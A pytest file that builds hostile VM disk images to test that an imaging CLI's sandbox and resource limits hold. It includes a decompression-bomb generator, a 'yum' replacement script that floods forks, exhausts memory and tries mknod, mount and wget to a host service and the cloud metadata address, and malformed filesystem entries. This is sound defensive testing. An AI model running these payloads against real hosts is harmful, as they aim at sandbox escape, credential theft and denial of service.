"""A corpus of hostile images, built at test time, each exported through the CLI.

Every case ends in a clear one-line error or a correct artifact, within a bound on time and on
the memory of the whole process tree (the CLI, its stage kernels and every tool they start),
and leaves the host as it was: no mount, loop device, process, control group or partial file
left, nothing written outside the run and its output, the source untouched.

The images are built once per session: a bootable busybox guest (the KVM sample's tree) with
one hostile thing added each, written by ``mke2fs -d`` (which also makes FIFOs, device nodes,
symlink loops, sparse files, hard links and names with newlines), or the Xen sample (CentOS 5)
with a guest tool of its own replaced by one that tries to break out.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psutil
import pytest

from imaging.disk import debugfs
from imaging.samples import catalog, kvm, packages

from .bounded import CASE_SECONDS, TREE_MEMORY, TREE_RSS, Measured, measured_cli, parameters
from .conftest import leftovers

# The guest's own tools, in this corpus: small limits, so the attempts to exhaust them are quick.
SANDBOX = {"memory": "128M", "processes": 64, "seconds": 60}
KVM_VERSION_FILE = "kernel-version"

pytestmark = pytest.mark.timeout(600)


# -- the host service a hostile tool would like to reach ------------------------------------


class _Listener(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        _Listener.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"HOST-SECRET\n")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="session")
def host_service() -> Iterator[tuple[str, int]]:
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), _Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = next(
        str(a.address)
        for addrs in psutil.net_if_addrs().values()
        for a in addrs
        if a.family == socket.AF_INET and not a.address.startswith("127.")
    )
    yield address, int(server.server_address[1])
    server.shutdown()


# -- the images ----------------------------------------------------------------------------


def _mke2fs(tree: Path, image: Path, size: str = "1G") -> Path:
    subprocess.run(["mke2fs", "-q", "-F", "-t", "ext3", "-b", "4096", "-I", "256", "-N", "140000", "-d", tree,
                    image, size], check=True, capture_output=True)  # fmt: skip
    return image


def _sparse(path: Path, size: int = 1 << 40) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as f:
        f.truncate(size)


def _socket(path: Path) -> None:
    """A unix socket where a file should be (``mke2fs -d`` copies it as one)."""
    path.unlink(missing_ok=True)
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(path))


def _deep(image: Path, levels: int) -> None:
    """/tmp/d/d/... ``levels`` deep, made by debugfs inside the image (a path that long is no
    use on the host, and ``mke2fs -d`` gives up on it)."""
    subprocess.run(["debugfs", "-w", "-f", "-", image], input="cd /tmp\n" + "mkdir d\ncd d\n" * levels, text=True,
                   check=True, capture_output=True)  # fmt: skip


def _gzip(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(data) + packer.flush()


def _gzip_bomb(path: Path, zeros: int) -> None:
    """An initrd of about a MiB: a cpio archive whose one file is ``zeros`` bytes of zeros, as
    gzip (one 64 MiB member of zeros written again and again: a reader takes concatenated
    members as one stream)."""
    name = b"big\0"
    header = b"070701" + b"".join(f"{v:08X}".encode() for v in (1, 0o100644, 0, 0, 1, 0, 0xFFFFFFFF, 0, 0, 0, 0,
                                                              len(name), 0))  # fmt: skip
    head = header + name + bytes(-(len(header) + len(name)) % 4)
    zeros_member = _gzip(bytes(64 << 20))
    with open(path, "wb") as f:
        f.write(_gzip(head))
        for _ in range(zeros // (64 << 20)):
            f.write(zeros_member)


def _many_logs(image: Path, count: int) -> None:
    """``count`` one-byte files in one directory of /var/log, made by the kernel (``mke2fs -d``
    links each into a flat directory in a time that grows with its size: 5 minutes here)."""
    mnt = image.with_suffix(".mnt")
    mnt.mkdir()
    subprocess.run(["mount", "-o", "loop", image, mnt], check=True)
    try:
        logs = mnt / "var" / "log" / "many"
        logs.mkdir()
        for i in range(count):
            (logs / f"app{i}.log").write_bytes(b"x")
    finally:
        subprocess.run(["umount", mnt], check=True)
        mnt.rmdir()


def _the_lot(root: Path) -> None:
    """Everything a guest may hold that a stage must survive, in one bootable image (and
    100 000 files in /var/log, added once it is made)."""
    (root / "var" / "log" / "old.log.1").write_text("rotated\n")
    os.mkfifo(root / "var" / "log" / "pipe")
    _sparse(root / "var" / "log" / "huge.log")  # a 1 TiB log: emptied, never read
    (root / "var" / "log" / "evil\nname.log").write_text("a name with a newline\n")
    for name, kind, major, minor in (("sda", "b", 8, 0), ("mem", "c", 1, 1), ("kmsg", "c", 1, 11)):
        os.mknod(
            root / "dev" / name, 0o600 | (0o60000 if kind == "b" else 0o20000), os.makedev(major, minor)
        )
    (root / "etc" / "sysconfig").symlink_to("/etc/sysconfig")  # a loop where 10-clean looks (ifcfg-*)
    (root / "etc" / "NetworkManager").symlink_to("NetworkManager")
    (root / "root" / "notes").write_text("the user's own notes\n")
    (root / "etc" / "fstab").unlink()  # 20-migrate edits fstab: here it is also the user's notes
    os.link(root / "root" / "notes", root / "etc" / "fstab")
    (root / "root" / "notes").write_text("UUID=00000000-0000-0000-0000-000000000000 / ext3 defaults 0 1\n")
    _sparse(root / "root" / "data.img")  # user data: a 1 TiB sparse file stays as it is
    version = (root / KVM_VERSION_FILE).read_text()
    (root / "boot" / f"vmlinuz-{version}\n").write_bytes(b"not a kernel")  # must never reach grub.cfg
    (root / "tmp" / "a\nb").write_text("x")


ESCAPE = r"""#!/bin/sh
# A hostile "yum": tries everything a package manager run as root could, and says what happened.
say() { echo "imaging-escape $1: $2"; }
say uid "$(id -u)"
say sys "$(ls -A /sys 2>&1 | head -c 100)"
say macs "$(cat /sys/class/net/*/address 2>&1 | head -c 100)"
say hostname "$(hostname)"
busybox mknod /tmp/disk b 8 0 2>/dev/null && say mknod made || say mknod refused
mount -t tmpfs x /mnt 2>/dev/null && say mount mounted || say mount refused
# Forks until refused (the subshell ends there), counting as it goes without a fork of its own.
( i=0; while [ $i -lt 300 ]; do sleep 60 & i=$((i+1)); echo $i > /tmp/forks; done ) 2>/dev/null
kill -9 -1 2>/dev/null; sleep 1
say processes "$(cat /tmp/forks)"
busybox dd if=/dev/zero of=/dev/null bs=400M count=1 2>/dev/null; say memory "dd exit $?"
for target in 127.0.0.1:__PORT__ __HOST__:__PORT__ 169.254.169.254:80; do
  say "direct $target" "$(busybox wget -Y off -O- http://$target/ 2>&1 | tr '\n' ' ' | head -c 120)"
  say "proxied $target" "$(busybox wget -O- http://$target/ 2>&1 | tr '\n' ' ' | head -c 200)"
done
exit 1
"""

HANG = "#!/bin/sh\n# A hostile mkinitrd: never ends.\nexec sleep 100000\n"


def _replace_tool(image: Path, path: str, text: str, tmp: Path) -> None:
    host = tmp / Path(path).name
    host.write_text(text)
    script = f"rm {path}\nwrite {host} {path}\nsif {path} mode 0100755\n"
    subprocess.run(
        ["debugfs", "-w", "-f", "-", image], input=script, text=True, check=True, capture_output=True
    )
    assert debugfs.ExtGuest(image).read_text(path) == text


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory, host_service: tuple[str, int]) -> dict[str, Path]:
    t0 = time.monotonic()
    work = tmp_path_factory.mktemp("corpus")
    base = work / "base"
    kvm.stage_kvm_root(base, "hostile")
    (base / KVM_VERSION_FILE).write_text(packages.kernel_tree().version)
    version = packages.kernel_tree().version

    def variant(
        name: str, change: Callable[[Path], Any], after: Callable[[Path], Any] | None = None
    ) -> Path:
        tree = work / name
        shutil.copytree(base, tree, symlinks=True)
        change(tree)
        (tree / KVM_VERSION_FILE).unlink(missing_ok=True)
        image = _mke2fs(tree, work / f"{name}.img", "1G" if name == "the-lot" else "256M")
        shutil.rmtree(tree)
        if after is not None:
            after(image)
        return image

    images = {
        "the-lot": variant("the-lot", _the_lot, lambda image: _many_logs(image, 100_000)),
        "os-release-1tib": variant(
            "os-release-1tib",
            lambda r: (r / "etc" / "os-release").unlink() or _sparse(r / "etc" / "os-release"),
        ),  # fmt: skip
        "inittab-fifo": variant("inittab-fifo", lambda r: os.mkfifo(r / "etc" / "inittab")),
        "fstab-socket": variant("fstab-socket", lambda r: _socket(r / "etc" / "fstab")),
        "fstab-block-device": variant(
            "fstab-block-device",
            lambda r: (
                (r / "etc" / "fstab").unlink()
                or os.mknod(r / "etc" / "fstab", 0o600 | 0o60000, os.makedev(8, 0))
            ),
        ),  # fmt: skip
        "deep-tmp": variant("deep-tmp", lambda r: None, lambda image: _deep(image, 3000)),
        "initrd-bomb": variant(
            "initrd-bomb", lambda r: _gzip_bomb(r / "boot" / f"initrd.img-{version}", 18 << 26)
        ),
        "initrd-1tib": variant("initrd-1tib", lambda r: _sparse(r / "boot" / f"initrd.img-{version}")),
        # Where imaging's GRUB writes its menu, whose old text 30-bootable reads for the diff.
        "grub-cfg-1tib": variant(
            "grub-cfg-1tib", lambda r: _sparse(r / "boot" / "imaging-grub" / "grub.cfg")
        ),
    }
    xen = catalog.ensure_sample("xen")
    host, port = host_service
    for name, path, text in (
        ("escaping-yum", "/usr/bin/yum", ESCAPE.replace("__HOST__", host).replace("__PORT__", str(port))),
        ("hanging-mkinitrd", "/sbin/mkinitrd", HANG),
    ):
        images[name] = work / f"{name}.img"
        shutil.copyfile(xen, images[name])
        _replace_tool(images[name], path, text, work)
    overlay = work / "backing-dev-sda.qcow2"
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", "-u", "-b", "/dev/sda", "-F", "raw", overlay, "1G"],
                   check=True)  # fmt: skip
    images["backing-dev-sda"] = overlay
    print(f"corpus: {len(images)} images built in {time.monotonic() - t0:.1f} s", file=sys.stderr)
    return images


# -- the cases -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    image: str
    args: list[str]
    error: str = ""  # the one-line error (a regular expression); "" when an artifact must come out
    code: int = 1
    stage_time: dict[str, Any] = field(default_factory=dict)


GENERIC = ["--profile", "generic", "--boot-marker", kvm.MARKER]
CASES = {
    "the-lot": Case("the-lot", [*GENERIC, "--format", "raw"], code=0),
    "os-release-1tib": Case("os-release-1tib", [],
        r"^10-clean: /etc/os-release in the guest is 1\.0 TiB: more than the 8\.0 MiB read from a guest file: refused$"),
    "inittab-fifo": Case("inittab-fifo", ["--profile", "centos5"],
        r"^20-migrate: /etc/inittab in the guest is a FIFO, not a regular file: refused$"),
    "fstab-block-device": Case("fstab-block-device", GENERIC,
        r"^20-migrate: /etc/fstab in the guest is a block device, not a regular file: refused$"),
    "deep-tmp": Case("deep-tmp", GENERIC,
        r"^10-clean: /tmp/d in the guest is more than 256 directories deep: refused \(no real system nests so deep; "
        r"remove it from the image first\)$"),
    "initrd-bomb": Case("initrd-bomb", GENERIC, r"^20-migrate: the initrd decompresses to more than 1024 MiB: refused$"),
    "initrd-1tib": Case("initrd-1tib", GENERIC,
        r"^20-migrate: the initrd /boot/initrd\.img-\S+ in the guest is 1\.0 TiB: more than the 1024 MiB an initrd "
        r"may be: refused$"),
    "grub-cfg-1tib": Case("grub-cfg-1tib", GENERIC,
        r"^30-bootable: /boot/imaging-grub/grub\.cfg in the guest is 1\.0 TiB: more than the 8\.0 MiB read from a guest "
        r"file: refused$"),
    "escaping-yum": Case("escaping-yum", ["--install", "anything"],
        r"^20-migrate: the guest's package index could not be fetched \(yum -y makecache: "),
    "hanging-mkinitrd": Case("hanging-mkinitrd", [],
        r"^20-migrate: took longer than its time limit of 20 s \(stage_time in parameters/defaults\.yaml, which "
        r"grows with the source's size\); resume runs it again$", stage_time={"20-migrate": {"seconds": 20}}),
    "backing-dev-sda": Case("backing-dev-sda", [],
        r"has a backing file \(/dev/sda\); refusing: a source must be self-contained", code=2),
    "fstab-socket": Case("fstab-socket", GENERIC,
        r"^20-migrate: /etc/fstab in the guest is a socket, not a regular file: refused$"),
    "name-with-newline": Case("the-lot", ["--name", "x\n"], r"^name 'x\\n' has a control or unprintable character",
        code=2),
}  # fmt: skip


def _escape_report(run: Path) -> dict[str, str]:
    entries = [json.loads(line) for line in (run / "commands.jsonl").read_text().splitlines()]
    (yum,) = [e for e in entries if "yum" in e["argv"] and any("bwrap" in a for a in e["argv"][:2])]
    return dict(
        line.removeprefix("imaging-escape ").split(": ", 1)
        for line in yum["stdout"].splitlines()
        if line.startswith("imaging-escape ") and ": " in line
    )


@pytest.mark.parametrize("case", list(CASES))
def test_hostile_image(
    case: str, corpus: dict[str, Path], tmp_path: Path, host_service: tuple[str, int]
) -> None:
    spec = CASES[case]
    source = corpus[spec.image]
    before = (source.stat().st_size, source.stat().st_mtime_ns)
    runs, out, tmp = tmp_path / "runs", tmp_path / "out", tmp_path / "tmp"
    for d in (runs, out, tmp):
        d.mkdir()
    # TMPDIR private to the case: every temporary directory the run makes must be gone after it.
    env = {**os.environ, "IMAGING_RUNS": str(runs), "IMAGING_PROGRESS": "0", "TMPDIR": str(tmp),
           "IMAGING_PARAMETERS": str(parameters(tmp_path, SANDBOX, spec.stage_time))}  # fmt: skip
    args = ["export", str(source), "--out", str(out), *spec.args]
    if "--name" not in spec.args:
        args += ["--name", case]
    _Listener.hits.clear()
    m = measured_cli(args, env, CASE_SECONDS)
    print(f"{case}: exit {m.code} in {m.seconds:.1f} s, peak RSS of the tree {m.peak_rss >> 20} MiB, "
          f"{m.group} peak {(m.peak_group or 0) >> 20} MiB", file=sys.stderr)  # fmt: skip
    errors = [
        re.sub(
            r" \(run \S+; resume with: python -m imaging resume \S+\)$",
            "",
            line.removeprefix("imaging: error: "),
        )
        for line in m.stderr.splitlines()
        if line.startswith("imaging: error: ")
    ]
    assert m.code == spec.code, m.stderr[-2000:]
    if spec.error:
        assert len(errors) == 1 and re.search(spec.error, errors[0]), m.stderr[-2000:]
    assert m.seconds < CASE_SECONDS and m.peak_rss < TREE_RSS
    if m.peak_group is not None:
        assert m.peak_group <= TREE_MEMORY
    # The host as it was.
    assert leftovers(tmp_path) == [] and list(tmp.iterdir()) == []
    assert (source.stat().st_size, source.stat().st_mtime_ns) == before
    assert _Listener.hits == []  # nothing of the image's reached the host's service
    made = sorted(p.name for p in out.iterdir())
    assert made == ([f"{case}.raw", f"{case}.raw.sha256"] if spec.code == 0 else [])
    assert len(list(runs.iterdir())) == (0 if spec.code == 2 else 1)  # the run, and nothing else
    check = CHECKS.get(case)
    if check is not None:
        check(m, runs, out, host_service)


def _check_the_lot(m: Measured, runs: Path, out: Path, host: tuple[str, int]) -> None:
    result = json.loads(m.stdout.strip().splitlines()[-1])
    assert result["verified"] is True and result["boot"]["verdict"] == "booted", result["boot"]
    (run,) = runs.iterdir()
    clean = json.loads((run / "results" / "10-clean.json").read_text())
    assert "/etc/sysconfig/network-scripts: a symlink loop in the guest, skipped" in clean["skipped"]
    truncated = [a for a in clean["actions"] if a["action"] == "truncate"]
    # The 100 000 files are one row of the record (their directory, counted); the rest by name.
    many = [a for a in truncated if a["path"].startswith("/var/log/many")]
    assert [(a["path"], a["count"], a["bytes"]) for a in many] == [
        ("/var/log/many/* (100000 files)", 100_000, 100_000)
    ]
    assert any(a["path"] == "/var/log/huge.log" and a["bytes"] == 1 << 40 for a in truncated)
    artifact = Path(result["path"])
    offset = json.loads((run / "results" / "30-bootable.json").read_text())["layout"]["offset_bytes"]
    guest = debugfs.ExtGuest(artifact, offset)
    # The hard-linked fstab was edited as a file of its own: the user's notes kept their bytes.
    assert (
        guest.read_text("/root/notes") == "UUID=00000000-0000-0000-0000-000000000000 / ext3 defaults 0 1\n"
    )
    assert "UUID=" in (guest.read_text("/etc/fstab") or "")
    grub = guest.read_text("/boot/imaging-grub/grub.cfg") or ""
    assert "not a kernel" not in grub and grub.count("menuentry") == 1
    assert [e.size for e in guest.listdir("/root") if e.name == "data.img"] == [1 << 40]


def _check_escape(m: Measured, runs: Path, out: Path, host: tuple[str, int]) -> None:
    (run,) = runs.iterdir()
    seen = _escape_report(run)
    assert seen["uid"] == "0" and seen["sys"] == "" and "No such file" in seen["macs"]
    assert seen["hostname"] == "localhost" and seen["mknod"] == "refused" and seen["mount"] == "refused"
    assert int(seen["processes"]) <= SANDBOX["processes"]
    assert seen["memory"] == "dd exit 137"  # killed: over the memory limit
    address, port = host
    for target in (f"127.0.0.1:{port}", f"{address}:{port}", "169.254.169.254:80"):
        assert "HOST-SECRET" not in seen[f"direct {target}"] + seen[f"proxied {target}"]
        assert "403" in seen[f"proxied {target}"]


CHECKS: dict[str, Callable[[Measured, Path, Path, tuple[str, int]], None]] = {
    "the-lot": _check_the_lot,
    "escaping-yum": _check_escape,
}


def test_a_stage_over_its_time_limit_fails_cleanly_and_resumes(kvm_sample: Path, tmp_path: Path) -> None:
    """10-clean gets a tenth of a second: it is stopped, fails like any stage, leaves nothing
    behind; with the limits as they ship, `resume` runs it again and the run completes."""
    runs = tmp_path / "runs"
    env = {**os.environ, "IMAGING_RUNS": str(runs), "IMAGING_PROGRESS": "0", "TMPDIR": str(tmp_path)}
    limited = {
        **env,
        "IMAGING_PARAMETERS": str(parameters(tmp_path, SANDBOX, {"10-clean": {"seconds": 0.1}})),
    }
    args = [sys.executable, "-m", "imaging"]
    proc = subprocess.run([*args, "export", "sample:kvm", "--name", "slow", "--format", "raw"], env=limited,
                          capture_output=True, text=True, timeout=300)  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    (run,) = runs.iterdir()
    assert proc.stderr.strip().splitlines()[-1] == (
        "imaging: error: 10-clean: took longer than its time limit of 0.1 s (stage_time in parameters/defaults.yaml, "
        f"which grows with the source's size); resume runs it again (run {run.name}; resume with: python -m imaging "
        f"resume {run.name})"
    )
    state = json.loads((run / "state.json").read_text())
    assert (state["state"], state["stage"]) == ("error", "10-clean")
    assert leftovers(tmp_path) == []
    done = subprocess.run([*args, "resume", run.name], env=env, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout.strip().splitlines()[-1])["verified"] is True
    assert leftovers(tmp_path) == []
